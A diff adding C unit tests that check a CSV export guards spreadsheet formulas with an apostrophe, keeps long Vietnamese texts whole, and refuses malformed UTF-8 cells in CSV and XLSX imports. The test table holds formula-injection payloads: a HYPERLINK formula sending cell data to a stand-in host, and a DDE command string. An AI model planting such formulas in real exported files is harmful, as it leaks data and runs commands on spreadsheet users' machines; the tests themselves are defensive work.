@@ -4,6 +4,7 @@
 
 #include "buf.h"
 #include "csvio.h"
+#include "text.h"
 
 #include <xlsxwriter.h>
 
@@ -151,6 +152,170 @@ test_export_import_round_trip(void **state)
 	store_close(b);
 }
 
+/* ---- formula guard and long texts: every CSV we write ---------------------- */
+
+/* Texts a spreadsheet would run (and two it would not): the export puts an
+ * apostrophe before the first kind, the import takes it off. */
+static const struct {
+	const char *text;
+	bool guarded;
+} formula_cells[] = {
+	{ "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm vào\")", true },
+	{ "+84 912 345 678", true },
+	{ "-2+3", true },
+	{ "@SUM(A1:A9)", true },
+	{ "=cmd|' /C calc'!A0", true },      /* DDE (a tab or CR first is trimmed) */
+	{ "'=1+1", true },                   /* an apostrophe a user typed */
+	{ "- gạch đầu dòng", false },
+	{ "Lý Xuân Thành", false },
+};
+
+static char *
+export_of(struct store *s, const char *entity, size_t *len)
+{
+	struct err e = { 0 };
+	char *out = NULL;
+	FILE *f = open_memstream(&out, len);
+
+	assert_int_equal(csv_export(s, registry_find(entity), f, &e), 0);
+	fclose(f);
+	return out;
+}
+
+static void
+test_export_guards_formulas_whole_and_round_trips(void **state)
+{
+	struct store *a = tu_store(0, NULL, 0), *b = tu_store(0, NULL, 0);
+	const struct entity_def *program = registry_find("program");
+	struct import_result res;
+	struct err e = { 0 };
+	struct buf in, note;
+	json_t *rows, *row, *rec;
+	char *out1, *out2;
+	size_t len1, len2, i, j;
+
+	(void)state;
+	/* a long description of 60,000 three-byte characters: 180,000
+	 * bytes, far past the 64 KiB at which the export used to cut it */
+	buf_init(&note, 200000);
+	for (i = 0; i < 60000; i++)
+		buf_adds(&note, "ấ");
+	buf_init(&in, 1 << 20);
+	buf_adds(&in, "name,description\n");
+	for (i = 0; i < sizeof(formula_cells) / sizeof(formula_cells[0]); i++) {
+		/* written as the export writes them: the import takes a guard off */
+		buf_adds(&in, text_formula_like(formula_cells[i].text) ? "\"'" : "\"");
+		for (const char *p = formula_cells[i].text; *p; p++) {
+			if (*p == '"')
+				buf_addc(&in, '"');
+			buf_addc(&in, *p);
+		}
+		buf_addf(&in, "\",%s\n", i == 0 ? buf_str(&note) : "");
+	}
+	assert_false(buf_failed(&in));
+	if (csv_import_buffer(a, program, buf_str(&in), in.len, false, &tester, &res, &e) != 0)
+		fail_msg("import: %s %s", e.msg, json_dumps(res.errors, 0));
+	json_decref(res.errors);
+
+	out1 = export_of(a, "program", &len1);
+	rows = csv_parse_rows(out1, len1, &e);
+	assert_non_null(rows);
+	assert_int_equal(json_array_size(rows),
+	    1 + sizeof(formula_cells) / sizeof(formula_cells[0]));
+	json_array_foreach(rows, i, row) {
+		const char *name = json_string_value(json_array_get(row, 1));
+		if (i == 0)
+			continue;
+		/* exported in id order, as imported */
+		j = i - 1;
+		if (formula_cells[j].guarded) {
+			if (name[0] != '\'' || strcmp(name + 1, formula_cells[j].text) != 0)
+				fail_msg("row %zu not guarded: [%s]", i, name);
+		} else {
+			assert_string_equal(name, formula_cells[j].text);
+		}
+		/* no cell of the export starts a formula */
+		for (size_t k = 0; k < json_array_size(row); k++)
+			if (text_formula_like(json_string_value(json_array_get(row, k))) &&
+			    json_string_value(json_array_get(row, k))[0] != '\'')
+				fail_msg("formula cell %zu of row %zu", k, i);
+	}
+	/* the long description, whole (the column before "illustrative") */
+	row = json_array_get(rows, 1);
+	assert_int_equal(json_string_length(json_array_get(row, json_array_size(row) - 2)),
+	    note.len);
+	json_decref(rows);
+
+	/* and back: the same records, the same export */
+	if (csv_import_buffer(b, program, out1, len1, false, &tester, &res, &e) != 0)
+		fail_msg("re-import: %s %s", e.msg, json_dumps(res.errors, 0));
+	json_decref(res.errors);
+	for (i = 0; i < sizeof(formula_cells) / sizeof(formula_cells[0]); i++) {
+		rec = store_get(b, program, (int64_t)i + 1, &e);
+		assert_non_null(rec);
+		assert_string_equal(json_string_value(json_object_get(rec, "name")),
+		    formula_cells[i].text);
+		if (i == 0)
+			assert_string_equal(json_string_value(json_object_get(rec, "description")),
+			    buf_str(&note));
+		json_decref(rec);
+	}
+	out2 = export_of(b, "program", &len2);
+	assert_int_equal(len1, len2);
+	assert_memory_equal(out1, out2, len1);
+	free(out1);
+	free(out2);
+	buf_free(&in);
+	buf_free(&note);
+	store_close(a);
+	store_close(b);
+}
+
+/* ---- cells that are not text: refused, naming line and field --------------- */
+
+static const struct {
+	const char *csv;
+	size_t len;          /* the bytes (a NUL inside)           */
+	long line;
+	const char *field;   /* NULL: the header, by its column    */
+} not_text_cases[] = {
+#define C(s) s, sizeof(s) - 1
+	{ C("full_name,note\nA,x\nB\xFF\xFE,y\n"), 3, "full_name" },
+	{ C("full_name,note\nA,x\nB,y\x00z\n"), 3, "note" },
+	{ C("full_name,note\nA,x\n\"C\xC3\x28\",y\n"), 3, "full_name" },
+	{ C("full_name,note\nA,x\nB,\xED\xA0\x80\n"), 3, "note" },     /* a surrogate */
+	{ C("full_name,illustrative\nA,\xFF\n"), 2, "illustrative" },
+	{ C("full_name,gender\nA,ma\x00le\n"), 2, "gender" },
+	{ C("full_name,no\xFFte\nA,x\n"), 1, NULL },
+	{ C("full_name,no\x00te\nA,x\n"), 1, NULL },
+#undef C
+};
+
+static void
+test_cells_not_text_name_line_and_field(void **state)
+{
+	struct store *s = tu_store(0, NULL, 0);
+	struct import_result res;
+	size_t i;
+
+	(void)state;
+	for (i = 0; i < sizeof(not_text_cases) / sizeof(not_text_cases[0]); i++) {
+		struct err e = { 0 };
+		if (csv_import_buffer(s, registry_find("person"), not_text_cases[i].csv,
+		    not_text_cases[i].len, false, &tester, &res, &e) != -1)
+			fail_msg("case %zu imported", i);
+		/* the client's error, never "out of memory" */
+		if (e.code != ERR_INVALID)
+			fail_msg("case %zu: %s (%s)", i, err_code_name(e.code), e.msg);
+		if (!has_error(res.errors, not_text_cases[i].line, not_text_cases[i].field))
+			fail_msg("case %zu: %s", i, json_dumps(res.errors, 0));
+		json_decref(res.errors);
+		err_clear(&e);
+	}
+	assert_int_equal(count(s, "person"), 0);
+	store_close(s);
+}
+
 /* A spreadsheet made by libxlsxwriter imports like a CSV file: shared
  * strings, numbers, trailing empty cells, and a bad row refuses them all. */
 static void
@@ -212,6 +377,35 @@ test_xlsx_import(void **state)
 	json_decref(res.errors);
 	err_clear(&e);
 	free(data);
+
+	/* a shared string that is not UTF-8 (row 3) is its cell's error, and
+	 * the strings after it keep their index (row 4 is read right) */
+	wb = workbook_new(path);
+	ws = workbook_add_worksheet(wb, NULL);
+	worksheet_write_string(ws, 0, 0, "full_name", NULL);
+	worksheet_write_string(ws, 0, 1, "note", NULL);
+	worksheet_write_string(ws, 1, 0, "Giàng Seo Phử", NULL);
+	worksheet_write_string(ws, 2, 0, "B\xFF\xFE", NULL);
+	worksheet_write_string(ws, 3, 0, "Sùng Mí Pà", NULL);
+	worksheet_write_string(ws, 3, 1, "ghi chú", NULL);
+	assert_int_equal(workbook_close(wb), LXW_NO_ERROR);
+	data = read_file(path, 1 << 20, &len, &e);
+	assert_int_equal(xlsx_import_buffer(s, registry_find("person"), data, len,
+	    true, &tester, &res, &e), 0);
+	assert_true(has_error(res.errors, 3, "full_name"));
+	assert_int_equal(res.imported, 2);
+	json_decref(res.errors);
+	free(data);
+	{
+		struct list_query q;
+		json_t *rows;
+		memset(&q, 0, sizeof(q));
+		q.search = "sung mi pa";
+		assert_int_equal(store_list(s, registry_find("person"), &q, &rows, NULL, &e), 0);
+		assert_string_equal(json_string_value(json_object_get(json_array_get(rows, 0),
+		    "note")), "ghi chú");
+		json_decref(rows);
+	}
 
 	/* not a spreadsheet at all */
 	assert_int_equal(xlsx_import_buffer(s, registry_find("person"), "PK\3\4junk", 8,
@@ -483,6 +677,8 @@ main(void)
 		cmocka_unit_test(test_skip_invalid_imports_good_rows),
 		cmocka_unit_test(test_malformed_files),
 		cmocka_unit_test(test_export_import_round_trip),
+		cmocka_unit_test(test_export_guards_formulas_whole_and_round_trips),
+		cmocka_unit_test(test_cells_not_text_name_line_and_field),
 		cmocka_unit_test(test_xlsx_import),
 		cmocka_unit_test(test_bulk_audit_same_as_generic),
 		cmocka_unit_test(test_bulk_duplicate_key),
